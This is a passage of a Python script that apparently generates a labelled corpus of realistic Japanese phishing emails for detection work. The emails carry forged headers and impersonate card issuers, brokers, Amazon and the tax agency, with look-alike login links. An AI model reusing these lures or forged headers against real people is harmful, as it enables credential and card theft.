    local = struct.pack("<LHHHHHLLLHH", 0x04034B50, 20, flags, 8, dtime, ddate, crc32, len(enc), len(data),
                        len(fname), 0) + fname
    central = struct.pack("<LHHHHHHLLLHHHHHLL", 0x02014B50, 20, 20, flags, 8, dtime, ddate, crc32, len(enc),
                          len(data), len(fname), 0, 0, 0, 0, 0x20, 0) + fname
    body = local + bytes(enc)
    end = struct.pack("<LHHHHLLH", 0x06054B50, 0, 0, 1, 1, len(central), len(body), 0)
    return body + central + end


ENTRIES: list[tuple[str, str, str, str, bytes]] = []


def add(stem: str, kind: str, cat: str, description: str, raw: bytes) -> None:
    ENTRIES.append((stem, kind, cat, description, raw))

# ---------------------------------------------------------------------------
# sender-side header blocks
# ---------------------------------------------------------------------------


def H(*lines: str) -> str:
    return "\n".join(line for line in lines if line)


def gmail_sender(seed: str, when: datetime, frm: str, to: str, subject_line: str, mid: str, dkim_d: str = "gmail.com",
                 extra: str = "", via_ip: str = "209.85.220.41") -> str:
    hdrs = "mime-version:from:date:message-id:subject:to"
    return H(
        dkim(dkim_d, "20230601" if dkim_d == "gmail.com" else "google", hdrs, when, seed + "gm", c="relaxed/relaxed",
             x=604800 if dkim_d == "gmail.com" else None),
        dkim("1e100.net", "20230601", "x-gm-message-state:mime-version:from:date:message-id:subject:to", when,
             seed + "gm2", x=604800).replace("DKIM-Signature", "X-Google-DKIM-Signature"),
        f"X-Gm-Message-State: {tok(seed + 'gms', 60, B64)}",
        f"X-Gm-Gg: {tok(seed + 'ggg', 70, B64)}",
        f"X-Google-Smtp-Source: {tok(seed + 'gss2', 56, B64)}",
        f"X-Received: by 2002:a05:6a00:{tok(seed + 'xr3', 4)}:b0:{tok(seed + 'xr4', 3)}:{tok(seed + 'xr5', 4)}:{tok(seed + 'xr6', 4)} with SMTP id\n"
        f" d2e1a72fcca58-{tok(seed + 'xr7', 12)}mr{num(seed + 'xr8', 1000000, 9999999)}b3a.{num(seed + 'xr9', 10, 99)}.{tok(seed + 'xr10', 13, DIGITS)};\n"
        f" {pacific(when)}",
        "MIME-Version: 1.0",
        f"From: {frm}",
        f"Date: {rfc(when, pad=False)}",
        f"Message-ID: {mid}",
        subject_line,
        f"To: {to}",
        extra,
    )


def gmail_mid(seed: str) -> str:
    return f"<CA{tok(seed + 'mid', 2, ALNUM)}{tok(seed + 'mid2', 38, URLSAFE)}+{tok(seed + 'mid3', 6, ALNUM)}@mail.gmail.com>"


def outlook_mid(seed: str, region: str = "jp") -> str:
    h = M365_HOSTS[region]
    host = f"{h[0]}{num(seed + 'om', 4000, 9999)}"
    return f"<{host}{tok(seed + 'omid', 32, UHEX)}@{host}.{h[1]}.prod.outlook.com>"


def outlook_sender(seed: str, when: datetime, frm: str, to: str, subject_line: str, mid: str, domain: str | None,
                   region: str = "jp", cc: str = "", lang: str = "ja-JP", extra: str = "", topic: str = "",
                   in_reply: str = "", has_att: bool = False) -> str:
    """What an Outlook client on Microsoft 365 writes, plus the tenant's outbound hops and DKIM."""
    h = M365_HOSTS[region]
    host = mid.split("@")[1].rstrip(">")
    v6 = f"fe80::{tok(seed + 'ov1', 4)}:{tok(seed + 'ov2', 4)}:{tok(seed + 'ov3', 4)}:{tok(seed + 'ov4', 4)}"
    build = f"15.20.{num(seed + 'obld', 8200, 8900)}.{num(seed + 'obld2', 10, 40)}"
    ti = base64.b64encode(b"\x01" + blob(seed + "ti", 21)).decode()
    lines = []
    if domain:
        lines.append(dkim(domain, "selector1",
                          "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck",
                          when, seed + "od"))
    lines += [
        f"Received: from {host} ({v6}) by {host}\n ({v6}%5) with mapi id {build}; {rfc(when + timedelta(seconds=1), 0, pad=False)}",
        f"From: {frm}",
        f"To: {to}",
        f"CC: {cc}" if cc else "",
        subject_line,
        f"Thread-Topic: {topic}" if topic else "",
        f"Thread-Index: {ti}",
        f"Date: {rfc(when, 0, pad=False)}",
        f"Message-ID: {mid}",
        f"References: {in_reply}" if in_reply else "",
        f"In-Reply-To: {in_reply}" if in_reply else "",
        f"Accept-Language: {lang}, en-US",
        f"Content-Language: {lang}",
        f"X-MS-Has-Attach: {'yes' if has_att else ''}".rstrip(),
        "X-MS-TNEF-Correlator:",
        extra,
    ]
    return H(*lines)


def desktop_mid(seed: str, domain: str) -> str:
    """Outlook desktop over plain SMTP (not Exchange): <000001dbxxxxxxxx$xxxxxxxx$xxxxxxxx$@domain>."""
    return f"<0000{num(seed + 'dm', 0, 3)}1db{tok(seed + 'dm1', 5)}${tok(seed + 'dm2', 8)}${tok(seed + 'dm3', 8)}$@{domain}>"


def kit_html(title: str, brand: str, color: str, paras: list[str], button: str, url: str, footer: list[str],
             lang: str = "ja") -> str:
    """The table layout phishing kits copy from the brands' own notices."""
    body = "\n".join(f'<p style="margin:0 0 14px 0;line-height:1.7;">{p}</p>' for p in paras)
    foot = "<br>\n".join(footer)
    return f"""<!DOCTYPE html>
<html lang="{lang}">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>{title}</title>
</head>
<body style="margin:0;padding:0;background:#f4f4f4;">
<table width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#f4f4f4;">
<tr><td align="center" style="padding:20px 8px;">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:'Hiragino Kaku Gothic ProN','Meiryo','Malgun Gothic','Microsoft JhengHei',sans-serif;font-size:14px;color:#333333;">
<tr><td style="background:{color};padding:16px 24px;color:#ffffff;font-size:20px;font-weight:bold;">{brand}</td></tr>
<tr><td style="padding:28px 24px 8px 24px;">
{body}
</td></tr>
<tr><td align="center" style="padding:8px 24px 28px 24px;">
<a href="{url}" style="display:inline-block;background:{color};color:#ffffff;text-decoration:none;padding:14px 48px;border-radius:4px;font-weight:bold;">{button}</a>
</td></tr>
<tr><td style="padding:16px 24px;background:#fafafa;color:#888888;font-size:12px;line-height:1.6;">
{foot}
</td></tr>
</table>
</td></tr>
</table>
</body>
</html>
"""


def kit_mid(seed: str, domain: str, style: str = "php") -> str:
    if style == "php":
        return f"<{tok(seed + 'k', 32, ALNUM)}@{domain}>"
    if style == "date":
        return f"<{tok(seed + 'kd', 14, DIGITS)}.{tok(seed + 'kd2', 10, UHEX)}@{domain}>"
    return f"<{tok(seed + 'ku', 8)}-{tok(seed + 'ku2', 4)}-{tok(seed + 'ku3', 4)}-{tok(seed + 'ku4', 4)}-{tok(seed + 'ku5', 12)}@{domain}>"


def sender_hop(helo_from: str, ip_from: str, host: str, when: datetime, seed: str, tzh: float = 8,
               software: str = "Postfix") -> str:
    return (f"Received: from {helo_from} (unknown [{ip_from}])\n\tby {host} ({software}) with ESMTPSA id "
            f"{tok(seed + 'sh', 10, UHEX)};\n\t{rfc(when, tzh, pad=False)}")


# ---------------------------------------------------------------------------
# ATTACKS — Japan
# ---------------------------------------------------------------------------

JP_FOOT_NOREPLY = "※本メールは送信専用アドレスから配信しております。ご返信いただいてもお答えできませんのでご了承ください。"


def p_smbc_card() -> None:
    stem = "b38-phish-smbc-card-usage"
    rcpt = "yuki.tanaka1987@gmail.com"
    sent = T(2025, 2, 18, 11, 42, 7, 8)
    dom = "smbc-card-jp.com"
    url = f"https://vpass-smbc.jp-cardcheck.cn/vpass/login?ref={tok(stem + 'u', 12, LOWER)}"
    paras = [
        "三井住友カードをご利用いただき、誠にありがとうございます。",
        "このたび、ご本人様のご利用かどうかを確認させていただきたいお取引がございましたので、"
        "誠に勝手ながらカードのご利用を一部制限させていただき、ご連絡させていただきました。",
        "つきましては、以下へアクセスの上、カードのご利用確認にご協力をお願い致します。"
        "お客様にはご迷惑、ご心配をお掛けし、誠に申し訳ございません。何卒ご理解いただきたくお願い申しあげます。",
        "<b>ご回答期限：2025年2月19日 23:59まで</b><br>"
        "ご回答をいただけない場合、カードのご利用制限が継続されることもございますので、予めご了承下さい。",
    ]
    html = kit_html("三井住友カード", "三井住友カード", "#004c3f", paras, "ご利用確認はこちら", url,
                    [JP_FOOT_NOREPLY, "三井住友カード株式会社", "〒135-0061 東京都江東区豊洲2丁目2番31号 SMBC豊洲ビル",
                     "Copyright (C) Sumitomo Mitsui Card Co., Ltd. All Rights Reserved."])
    plain = ("三井住友カードをご利用いただき、誠にありがとうございます。\n\n"
             "このたび、ご本人様のご利用かどうかを確認させていただきたいお取引がございましたので、\n"
             "誠に勝手ながらカードのご利用を一部制限させていただき、ご連絡させていただきました。\n\n"
             f"■ご利用確認はこちら\n{url}\n\nご回答期限：2025年2月19日 23:59まで\n\n"
             f"{JP_FOOT_NOREPLY}\n三井住友カード株式会社\n")
    hdr = H(
        sender_hop("localhost", "127.0.0.1", f"mail.{dom}", sent, stem, 8),
        dkim(dom, "default", "Date:To:From:Subject:Message-ID:MIME-Version:Content-Type", sent, stem),
        f"Date: {rfc(sent)}",
        f"To: {rcpt}",
        f"From: {addr('三井住友カード', 'info@' + dom)}",
        subj("【三井住友カード】ご利用確認のお願い"),
        f"Message-ID: {kit_mid(stem, dom)}",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
    )
    src = Src(f"mail.{dom}", "43.153.71.208", f"info@{dom}", dom, "pass", [(dom, "default", "pass")], dmarc=None)
    body = alt(plain, html, f"b1=_{tok(stem + 'bd', 40, ALNUM)}")
    add(stem, "phish", "phishing",
        "SMBC card 'usage confirmation / card restricted' lure from look-alike smbc-card-jp.com (own SPF/DKIM), link to vpass-smbc.jp-cardcheck.cn credential page",
        deliver(rcpt, sent + timedelta(seconds=4), src, stem, hdr, body))


def p_aeon_spoof() -> None:
    stem = "b38-phish-aeon-card-spoof"
    rcpt = "misaki.kondo0722@gmail.com"
    sent = T(2024, 11, 26, 19, 5, 41, 8)
    envdom = "hkgshrt.com"
    url = "https://aeon-netstation.mufk.top/login/?sid=" + tok(stem + "u", 16, LOWER)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body>
<div style="font-family:Meiryo,sans-serif;font-size:14px;color:#333;max-width:640px;">
<p><img src="https://www.aeon.co.jp/common/images/logo.png" alt="AEON CARD" width="140"></p>
<p>イオンカードをご利用いただきありがとうございます。</p>
<p>お客様のカードにおいて、第三者による不正利用の可能性がある取引を検知いたしました。<br>
お客様の安全を確保するため、現在カードのご利用を一時的に停止しております。</p>
<p>引き続きご利用いただくには、以下のリンクより「暮らしのマネーサイト」にログインし、ご本人様確認を完了してください。</p>
<p style="margin:24px 0;"><a href="{url}" style="background:#b6007a;color:#fff;padding:12px 36px;text-decoration:none;border-radius:3px;">ご本人様確認へ進む</a></p>
<p>※本メール受信後24時間以内にお手続きいただけない場合、カードのご利用が制限されたままとなり、<br>
再発行手続き（手数料1,100円）が必要となる場合がございます。</p>
<hr>
<p style="font-size:12px;color:#888;">イオンフィナンシャルサービス株式会社<br>
本メールは送信専用です。ご不明な点はイオンカードコールセンターまでお問い合わせください。</p>
</div>
</body></html>
"""
    hdr = H(
        f"Received: from WIN-{tok(stem + 'w', 11, UHEX)} (unknown [{'101.36.119.' + str(num(stem, 2, 250))}])\n"
        f"\tby smtp.{envdom} (Postfix) with ESMTPA id {tok(stem + 'q', 10, UHEX)};\n\t{rfc(sent, 8, pad=False)}",
        f"From: {addr('イオンカード', 'info@aeon.co.jp')}",
        f"To: {rcpt}",
        subj("【重要】イオンカードのご利用停止について", mode="B"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 18, DIGITS)}.{tok(stem + 'm2', 6, LOWER)}@aeon.co.jp>",
        "X-Priority: 1",
        "X-Mailer: Foxmail 7.2.25.254[cn]",
    )
    src = Src(f"smtp.{envdom}", "45.207.58.131", f"mkt@{envdom}", "aeon.co.jp", "pass", [], dmarc="fail",
              policy="NONE", rdns="unknown")
    body = html_only(html, enc="quoted-printable")
    add(stem, "phish", "phishing",
        "AEON card 'card suspended, verify within 24h' lure spoofing aeon.co.jp (DMARC fail) via a Chinese bulk host, link to aeon-netstation.mufk.top",
        deliver(rcpt, sent + timedelta(seconds=6), src, stem, hdr, body))


def p_jcb_iso2022() -> None:
    stem = "b38-phish-jcb-card-restart"
    rcpt = "t-ishikawa@aoba-logi.co.jp"
    sent = T(2025, 1, 14, 8, 51, 22, 9)
    dom = "jcbcard-info.net"
    url = "https://my-jcb.co.jp-lgn.vip/iss-pc/member/user_manage/?p=" + tok(stem + "u", 10, LOWER)
    plain = f"""石川 拓也 様

いつもJCBカードをご利用いただき、誠にありがとうございます。

お客様のカードのご利用状況につきまして、不正利用の疑いがある
お取引を確認いたしましたため、カードのご利用を一時停止させて
いただきました。

ご利用を再開いただくには、下記MyJCBよりご本人様確認の上、
カード情報の再登録をお願いいたします。

■MyJCBログイン（ご本人様確認）
{url}

■お手続き期限
2025年1月16日（木）

期限までにお手続きが確認できない場合、お客様の安全のため
カードの再発行手続きを進めさせていただきます。

※本メールは送信専用のため、ご返信いただいてもお答えできません。
※本メールにお心当たりのない場合は、お手数ですが破棄してください。

─────────────────────────────
株式会社ジェーシービー
〒107-8686 東京都港区南青山5-1-22 青山ライズスクエア
─────────────────────────────
"""
    hdr = H(
        f"Received: from [192.168.1.{num(stem, 2, 200)}] (unknown [{'156.251.17.' + str(num(stem + 'ip', 2, 250))}])\n"
        f"\tby mail.{dom} (Postfix) with ESMTPSA id {tok(stem + 'q', 10, UHEX)}\n\tfor <{rcpt}>; {rfc(sent, 8, pad=False)}",
        f"From: {addr('MyJCB', 'myjcb-support@' + dom)}",
        f"To: {addr('石川 拓也', rcpt, 'ISO-2022-JP')}",
        subj("【JCB】カードご利用の一時停止と再開手続きのお知らせ", "ISO-2022-JP"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'date')}",
        "X-Mailer: Microsoft Outlook 16.0",
    )
    src = Src(f"mail.{dom}", "156.251.17.62", f"myjcb-support@{dom}", dom, "pass", [], dmarc=None)
    body = text(plain, "plain", "7bit", "iso-2022-jp")
    add(stem, "phish", "phishing",
        "JCB 'card paused, re-register on MyJCB' lure in ISO-2022-JP plain text from jcbcard-info.net, link to my-jcb.co.jp-lgn.vip look-alike",
        deliver(rcpt, sent + timedelta(seconds=5), src, stem, hdr, body))


def p_rakuten_card() -> None:
    stem = "b38-phish-rakuten-card-payment"
    rcpt = "yuki.tanaka1987@gmail.com"
    sent = T(2025, 5, 27, 22, 14, 3, 8)
    dom = "mail.rakuten-card.co.jp.kgwdm.cn"
    url = "https://www.rakuten-card.co.jp.e-navi.kgwdm.cn/e-navi/index.xhtml?token=" + tok(stem + "u", 20, ALNUM)
    paras = [
        "楽天カードをご利用いただき、誠にありがとうございます。",
        "ご登録のお支払い口座から、5月27日のお引き落としが確認できませんでした。"
        "このため、お客様のカードは現在<b>一時利用停止</b>となっております。",
        "お手数ですが、楽天e-NAVIにログインのうえ、お支払い口座およびカード情報の確認をお願いいたします。"
        "確認が完了次第、ご利用を再開いたします。",
        "ご確認期限：2025年5月29日<br>期限を過ぎますと、遅延損害金が発生する場合がございます。",
    ]
    html = kit_html("楽天カード", "Rakuten Card 楽天カード", "#bf0000", paras, "楽天e-NAVIで確認する", url,
                    ["楽天カード株式会社", "〒158-0094 東京都世田谷区玉川一丁目14番1号 楽天クリムゾンハウス", JP_FOOT_NOREPLY])
    hdr = H(
        dkim(dom.split(".")[-2] + ".cn", "s1", "from:to:subject:date:message-id:mime-version", sent, stem),
        f"From: {addr('楽天カード株式会社', 'info@' + dom)}",
        f"To: {rcpt}",
        subj("【楽天カード】お支払い口座の確認が取れませんでした（ご利用一時停止）"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'uuid')}",
    )
    src = Src("mta3.kgwdm.cn", "103.119.45.18", f"info@{dom}", "kgwdm.cn", "pass", [("kgwdm.cn", "s1", "pass")],
              dmarc=None)
    body = html_only(html)
    add(stem, "phish", "phishing",
        "Rakuten Card 'payment account failed, card suspended' lure; sender subdomain mail.rakuten-card.co.jp.kgwdm.cn and link to a fake e-NAVI on the same .cn domain",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_amazon_prime() -> None:
    stem = "b38-phish-amazon-jp-prime"
    rcpt = "k-yamamoto@kitamura-seiki.co.jp"
    sent = T(2025, 5, 12, 7, 33, 48, 8)
    dom = "amazon-co-jp.ptwyi.com"
    url = "https://amazon.co.jp.ap-signin.jkbxr.shop/ap/signin?openid.return_to=" + tok(stem + "u", 24, ALNUM)
    html = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Amazon.co.jp</title></head>
<body style="font-family:'Hiragino Kaku Gothic Pro',Meiryo,Arial,sans-serif;color:#111;">
<table width="640" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:16px 0;border-bottom:1px solid #ddd;"><span style="font-size:26px;font-weight:bold;">amazon</span><span style="font-size:14px;">.co.jp</span></td></tr>
<tr><td style="padding:20px 0;font-size:14px;line-height:1.8;">
<p>Amazon プライムをご利用いただきありがとうございます。</p>
<p>お客様のAmazonプライム会員資格は、2025/05/14に更新を迎えます。お調べしたところ、会費のお支払いに使用できる有効なクレジットカードがアカウントに登録されていません。</p>
<p>クレジットカード情報を更新いただくか、新しいクレジットカードを追加してください。お支払い情報が確認できない場合、プライム会員特典（お急ぎ便、Prime Video 等）がご利用いただけなくなります。</p>
<p style="text-align:center;margin:28px 0;"><a href="{url}" style="background:#ffd814;border:1px solid #fcd200;color:#111;padding:10px 40px;border-radius:8px;text-decoration:none;">お支払い方法を更新する</a></p>
<p>Amazon.co.jp カスタマーサービス</p>
</td></tr>
<tr><td style="font-size:11px;color:#666;border-top:1px solid #ddd;padding-top:12px;">
このメールアドレスは配信専用です。このメッセージに返信しないようお願いいたします。<br>
&copy; 1996-2025, Amazon.com, Inc. or its affiliates
</td></tr></table>
</body></html>
"""
    plain = ("Amazon プライムをご利用いただきありがとうございます。\n\n"
             "お客様のAmazonプライム会員資格は、2025/05/14に更新を迎えます。\n"
             "会費のお支払いに使用できる有効なクレジットカードがアカウントに登録されていません。\n\n"
             f"お支払い方法を更新する:\n{url}\n\nAmazon.co.jp カスタマーサービス\n")
    hdr = H(
        dkim(dom, "mail", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent, stem),
        f"From: {addr('Amazon.co.jp', 'account-update@' + dom)}",
        f"To: {rcpt}",
        subj("Amazon プライムのお支払い方法に問題があります"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
        "X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
    )
    src = Src(f"mx.{dom}", "38.181.22.97", f"account-update@{dom}", dom, "pass", [(dom, "mail", "pass")],
              dmarc="bestguesspass")
    body = alt(plain, html, f"b1=_{tok(stem + 'bd', 40, ALNUM)}", henc="quoted-printable")
    add(stem, "phish", "phishing",
        "Amazon.co.jp 'Prime fee payment problem' lure to a company mailbox from look-alike amazon-co-jp.ptwyi.com, link to fake sign-in on amazon.co.jp.ap-signin.jkbxr.shop",
        deliver(rcpt, sent + timedelta(seconds=7), src, stem, hdr, body, ctry="US"))


def p_sbi_securities() -> None:
    stem = "b38-phish-sbi-securities"
    rcpt = "kenji.watanabe.fx@gmail.com"
    sent = T(2025, 4, 9, 10, 2, 55, 8)
    dom = "sbisec-jp-support.com"
    url = "https://site1.sbisec.co.jp.login-acc-verify.com/ETGate/?_ControlID=WPLETlgR001Control&ref=" + tok(stem, 10, LOWER)
    paras = [
        "平素よりSBI証券をご利用いただき、誠にありがとうございます。",
        "昨今、他社になりすましたフィッシングサイトによる不正アクセス・不正取引の被害が多発していることを受け、"
        "当社では金融庁の要請に基づき、全てのお客様を対象に<b>お客様情報（ご本人様確認）の再確認</b>を実施しております。",
        "2025年4月15日（火）までに確認が完了していないお客様の口座につきましては、"
        "不正取引防止の観点から、お取引（買付・出金）を一時的に制限させていただきます。",
        "下記ボタンよりログインのうえ、取引パスワードおよびご登録情報の確認をお願いいたします。",
    ]
    html = kit_html("SBI証券", "SBI証券", "#0a3d8f", paras, "お客様情報を確認する", url,
                    ["株式会社SBI証券 金融商品取引業者 関東財務局長（金商）第44号",
                     "加入協会：日本証券業協会、一般社団法人金融先物取引業協会", JP_FOOT_NOREPLY])
    hdr = H(
        sender_hop("[10.0.0.12]", "10.0.0.12", f"mail.{dom}", sent, stem),
        dkim(dom, "default", "From:To:Subject:Date:Message-ID", sent, stem),
        f"From: {addr('SBI証券', 'info@' + dom)}",
        f"To: {rcpt}",
        subj("【SBI証券】【重要】お客様情報の確認のお願い（お取引制限のお知らせ）"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'date')}",
    )
    src = Src(f"mail.{dom}", "154.223.130.41", f"info@{dom}", dom, "pass", [(dom, "default", "pass")], dmarc=None)
    body = html_only(html, enc="base64")
    add(stem, "phish", "phishing",
        "2025 brokerage-takeover wave: SBI Securities 'reconfirm customer info or trading is restricted' lure from sbisec-jp-support.com, link to site1.sbisec.co.jp.login-acc-verify.com",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def p_rakuten_sec() -> None:
    stem = "b38-phish-rakuten-sec-mfa"
    rcpt = "misaki.kondo0722@gmail.com"
    sent = T(2025, 3, 27, 13, 46, 10, 8)
    dom = "rakuten-sec-mfa.com"
    url = "https://member.rakuten-sec.co.jp.mfa-setting.top/app/Login.do?id=" + tok(stem, 12, ALNUM)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;">
<div style="max-width:620px;margin:0 auto;font-family:Meiryo,'Yu Gothic',sans-serif;font-size:14px;color:#222;line-height:1.8;">
<div style="border-bottom:3px solid #bf0000;padding:12px 0;font-size:18px;font-weight:bold;color:#bf0000;">楽天証券</div>
<p>いつも楽天証券をご利用いただき、誠にありがとうございます。</p>
<p>昨今、当社を装ったフィッシングサイトにより窃取したお客様情報を用いた不正ログイン・不正取引が発生しております。
これを受け、当社ではお客様の資産保護のため、<span style="color:#bf0000;font-weight:bold;">ログイン時の多要素認証（追加認証）を必須化</span>いたします。</p>
<p>多要素認証の設定がお済みでないお客様は、3月31日（月）までに下記より設定をお願いいたします。
期限までに設定が確認できない場合、国内株式・投資信託の売却および出金を停止させていただきます。</p>
<p style="text-align:center;margin:26px 0;"><a href="{url}" style="display:inline-block;background:#bf0000;color:#fff;padding:12px 44px;text-decoration:none;border-radius:4px;">多要素認証を設定する</a></p>
<p style="font-size:12px;color:#666;">楽天証券株式会社<br>金融商品取引業者 関東財務局長（金商）第195号、商品先物取引業者<br>
※本メールは送信専用アドレスからお送りしています。</p>
</div></body></html>
"""
    hdr = H(
        dkim(dom, "k1", "from:to:subject:date:message-id:mime-version:content-type", sent, stem),
        f"From: {addr('楽天証券', 'support@' + dom)}",
        f"To: {rcpt}",
        subj("【楽天証券】多要素認証の設定が必要です（ログイン追加認証の必須化）"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'uuid')}",
    )
    src = Src(f"mail.{dom}", "43.133.20.177", f"bounce@{dom}", dom, "pass", [(dom, "k1", "pass")], dmarc="pass",
              policy="NONE")
    body = html_only(html, enc="quoted-printable")
    add(stem, "phish", "phishing",
        "2025 wave: Rakuten Securities 'MFA now mandatory, set it up or sales/withdrawals stop' lure copying the real announcement, look-alike rakuten-sec-mfa.com, link to member.rakuten-sec.co.jp.mfa-setting.top",
        deliver(rcpt, sent + timedelta(seconds=4), src, stem, hdr, body))


def p_nomura_sjis() -> None:
    stem = "b38-phish-nomura-sec-purpose"
    rcpt = "a-mori@aoba-logi.co.jp"
    sent = T(2025, 5, 12, 9, 18, 40, 9)
    dom = "nomura-jp-info.com"
    url = "https://nomura-hl.co.jp-confirm.net/hometrade/login?c=" + tok(stem, 10, LOWER)
    html = f"""<html>
<head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS"></head>
<body>
<table width="600" cellpadding="0" cellspacing="0" style="font-family:'ＭＳ Ｐゴシック',sans-serif;font-size:13px;">
<tr><td style="padding:10px;border-bottom:2px solid #c8102e;font-size:16px;"><b>野村證券</b></td></tr>
<tr><td style="padding:16px 10px;line-height:1.7;">
森 綾香 様<br><br>
平素は野村證券をお引き立ていただき、誠にありがとうございます。<br><br>
当社では、犯罪収益移転防止法に基づき、お客様のお取引目的・ご職業等の定期的な確認を行っております。<br>
お手数をおかけいたしますが、下記「野村ホームトレード」にログインのうえ、<br>
お取引目的等の確認（ご回答）をお願いいたします。<br><br>
<b>■回答期限：2025年5月19日（月）</b><br><br>
期限までにご回答いただけない場合、犯罪収益移転防止法の規定に基づき、<br>
お取引の一部を制限させていただく場合がございます。<br><br>
<a href="{url}">&gt;&gt; 野村ホームトレードにログインして回答する</a><br><br>
</td></tr>
<tr><td style="padding:10px;color:#777;font-size:11px;">
野村證券株式会社 金融商品取引業者 関東財務局長（金商）第142号<br>
本メールは送信専用です。
</td></tr></table>
</body></html>
"""
    hdr = H(
        f"Received: from User (unknown [{'103.97.176.' + str(num(stem, 2, 250))}])\n\tby mail.{dom} with SMTP;\n\t{rfc(sent, 8, pad=False)}",
        f"From: {addr('野村證券', 'nomura-info@' + dom, 'Shift_JIS')}",
        f"To: {addr('森 綾香', rcpt, 'Shift_JIS')}",
        subj("【野村證券】お取引目的等確認のお願い（回答期限：5月19日）", "Shift_JIS"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'date')}",
        "X-Mailer: Microsoft Outlook Express 6.00.2900.5512",
        "X-MimeOLE: Produced By Microsoft MimeOLE V6.00.2900.5512",
    )
    src = Src(f"mail.{dom}", "103.97.176.54", f"nomura-info@{dom}", dom, "softfail", [], dmarc=None)
    body = html_only(html, charset="shift_jis", enc="base64")
    add(stem, "phish", "phishing",
        "Nomura Securities 'confirm trading purpose under AML law or trading is restricted' lure in Shift_JIS HTML from nomura-jp-info.com, link to nomura-hl.co.jp-confirm.net",
        deliver(rcpt, sent + timedelta(seconds=9), src, stem, hdr, body))


def p_etc_meisai() -> None:
    stem = "b38-phish-etc-meisai-withdraw"
    rcpt = "kenji.watanabe.fx@gmail.com"
    sent = T(2024, 11, 5, 16, 20, 12, 8)
    dom = "etc-meisai.jp.ferxq.cn"
    url = "https://www.etc-meisai.jp.ferxq.cn/etc/R?funccode=1013000000&nextfunc=1013000000&u=" + tok(stem, 8, LOWER)
    plain = f"""ETC利用照会サービスをご利用いただき、ありがとうございます。

ETC利用照会サービスは、ご登録いただいたメールアドレスへ重要なお知らせを配信しております。

長期間ログインされていないお客様のアカウントにつきましては、
セキュリティ保護の観点から、2024年11月12日をもって自動的に退会処理を行います。

退会処理後は、これまでのご利用明細の照会および利用証明書の発行ができなくなります。

引き続きサービスのご利用を希望されるお客様は、下記URLよりログインし、
登録情報（ETCカード情報）の確認をお願いいたします。

{url}

※本メールは送信専用アドレスから配信しています。ご返信いただいてもお答えできません。

━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
ETC利用照会サービス事務局
━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
"""
    hdr = H(
        f"From: {addr('ETC利用照会サービス', 'etc-meisai@' + dom)}",
        f"To: {rcpt}",
        subj("【ETC利用照会サービス】退会予告のお知らせ"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
    )
    src = Src("ferxq.cn", "121.41.90.166", f"etc-meisai@{dom}", dom, "neutral", [], dmarc=None, rdns="unknown")
    body = text(plain, "plain", "base64", "utf-8")
    add(stem, "phish", "phishing",
        "ETC toll-statement service 'withdrawal notice, log in to keep your account' lure (common 2024-25), sender and link on etc-meisai.jp.ferxq.cn",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def p_etax_nta() -> None:
    stem = "b38-phish-nta-etax-arrears"
    rcpt = "h-ogawa@kitamura-seiki.co.jp"
    sent = T(2025, 2, 25, 10, 7, 36, 8)
    dom = "nta-go-jp.info"
    url = "https://www.nta.go.jp.zeimu-kakunin.com/etax/nofu/?no=" + tok(stem, 10, DIGITS)
    paras = [
        "国税電子申告・納税システム（e-Tax）からのお知らせです。",
        "令和6年分の申告所得税について、納付期限を経過してもなお納付が確認されておりません。"
        "本メールは最終の督促通知となります。",
        "<b>滞納税額：86,400円（延滞税を含む）</b><br><b>最終納付期限：令和7年2月28日</b>",
        "上記期限までに納付が確認できない場合、国税通則法第40条及び国税徴収法第47条に基づき、"
        "給与・預貯金等の財産の差押えを執行いたします。",
        "下記より納付状況の確認およびクレジットカードによる納付手続きを行ってください。",
    ]
    html = kit_html("国税庁", "国税庁 National Tax Agency", "#1d3b6f", paras, "納付手続きはこちら", url,
                    ["国税庁 〒100-8978 東京都千代田区霞が関3-1-1",
                     "本メールは送信専用です。お問い合わせには応じられません。"])
    hdr = H(
        dkim(dom, "default", "From:To:Subject:Date:Message-ID", sent, stem),
        f"From: {addr('国税庁', 'e-tax@' + dom)}",
        f"To: {rcpt}",
        subj("【国税庁】未納税金の督促および差押え最終通知"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
    )
    src = Src(f"mail.{dom}", "8.210.113.46", f"e-tax@{dom}", dom, "pass", [(dom, "default", "pass")],
              dmarc="bestguesspass")
    body = html_only(html, enc="quoted-printable")
    add(stem, "phish", "phishing",
        "National Tax Agency 'unpaid tax, final notice before seizure' lure to a company mailbox from nta-go-jp.info, link to card-payment page on nta.go.jp.zeimu-kakunin.com",
